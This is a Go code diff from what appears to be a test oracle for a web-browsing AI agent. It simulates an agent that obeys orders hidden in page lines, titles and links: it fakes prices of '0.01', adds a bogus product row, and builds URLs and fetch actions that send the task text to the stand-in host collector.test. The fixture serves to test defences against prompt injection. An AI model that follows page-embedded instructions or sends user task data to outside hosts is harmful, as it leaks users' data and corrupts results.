@@ -11,13 +11,13 @@ import (
 
 // obeyExtract does what lines of a page order, as far as an extractor can:
 // false values, rows and addresses, the task as a value.
-func (o *Oracle) obeyExtract(a asked, fields []protocol.PromptField, rows *[]struct {
+func (o *Oracle) obeyExtract(a protocol.Asked, fields []protocol.PromptField, rows *[]struct {
 	V  map[string]any   `json:"v"`
 	Ln map[string][]int `json:"ln"`
 },
 ) {
-	for _, l := range a.lines {
-		_, order, ok := strings.Cut(plain.Replace(l.text), orderMark)
+	for _, l := range a.Lines {
+		_, order, ok := strings.Cut(plain.Replace(l.Text), orderMark)
 		if !ok {
 			continue
 		}
@@ -27,21 +27,21 @@ func (o *Oracle) obeyExtract(a asked, fields []protocol.PromptField, rows *[]str
 			for _, r := range *rows {
 				for _, f := range fields {
 					if base(f) == "price" {
-						r.V[f.Name], r.Ln[f.Name] = "0.01", []int{l.n, l.n}
+						r.V[f.Name], r.Ln[f.Name] = "0.01", []int{l.N, l.N}
 					}
 				}
 			}
 		case strings.HasPrefix(order, "add a row"):
 			row := said{map[string]any{}, map[string][]int{}}
 			for _, f := range fields {
-				row.V[f.Name], row.Ln[f.Name] = "Bargain Pump 1", []int{l.n, l.n}
+				row.V[f.Name], row.Ln[f.Name] = "Bargain Pump 1", []int{l.N, l.N}
 			}
 			*rows = append(*rows, row)
 		case strings.HasPrefix(order, "visit"):
 			for _, r := range *rows {
 				for _, f := range fields {
 					if f.Type == "url" || base(f) == "maker" {
-						r.V[f.Name], r.Ln[f.Name] = "https://collector.test/drop?data="+a.text("task"), []int{l.n, l.n}
+						r.V[f.Name], r.Ln[f.Name] = "https://collector.test/drop?data="+a.Text("task"), []int{l.N, l.N}
 					}
 				}
 			}
@@ -51,12 +51,12 @@ func (o *Oracle) obeyExtract(a asked, fields []protocol.PromptField, rows *[]str
 
 // obeyDecide does what titles and anchors order, as far as a planner can; it
 // reports whether there was an order.
-func (o *Oracle) obeyDecide(a asked, out *protocol.DecideReply) bool {
+func (o *Oracle) obeyDecide(a protocol.Asked, out *protocol.DecideReply) bool {
 	var seen []string
-	for _, p := range list[protocol.PromptPage](a, "pages") {
+	for _, p := range protocol.ListOf[protocol.PromptPage](a, "pages") {
 		seen = append(seen, p.Title)
 	}
-	for _, l := range list[protocol.PromptLink](a, "links") {
+	for _, l := range protocol.ListOf[protocol.PromptLink](a, "links") {
 		seen = append(seen, l.Text)
 	}
 	for _, text := range seen {
@@ -69,16 +69,16 @@ func (o *Oracle) obeyDecide(a asked, out *protocol.DecideReply) bool {
 		case strings.Contains(order, "finish"):
 			out.Actions = append(out.Actions, journal.Action{Do: journal.DoFinish, H: []string{}, Follow: "none"})
 		case strings.Contains(order, "search"):
-			out.Actions = append(out.Actions, journal.Action{Do: journal.DoSearch, Q: a.text("task"), N: 20, H: []string{}, Follow: "none"})
+			out.Actions = append(out.Actions, journal.Action{Do: journal.DoSearch, Q: a.Text("task"), N: 20, H: []string{}, Follow: "none"})
 		case strings.Contains(order, "again"):
 			out.Actions = append(out.Actions, journal.Action{Do: journal.DoRead, H: []string{"L1"}, Follow: "none"})
 		}
 		out.Actions = append(out.Actions,
-			journal.Action{Do: journal.DoRead, H: []string{"https://collector.test/drop?data=" + a.text("task")}, Follow: "none"},
-			journal.Action{Do: journal.DoMap, H: []string{"https://collector.test/"}, Q: a.text("task"), Follow: "none"},
+			journal.Action{Do: journal.DoRead, H: []string{"https://collector.test/drop?data=" + a.Text("task")}, Follow: "none"},
+			journal.Action{Do: journal.DoMap, H: []string{"https://collector.test/"}, Q: a.Text("task"), Follow: "none"},
 			journal.Action{Do: "fetch", Q: "https://collector.test/", H: []string{}, Follow: "none"})
 	}
-	out.Note = clipText(a.text("task"), 300)
+	out.Note = clipText(a.Text("task"), 300)
 	if len(out.Actions) > 8 {
 		out.Actions = out.Actions[:8]
 	}
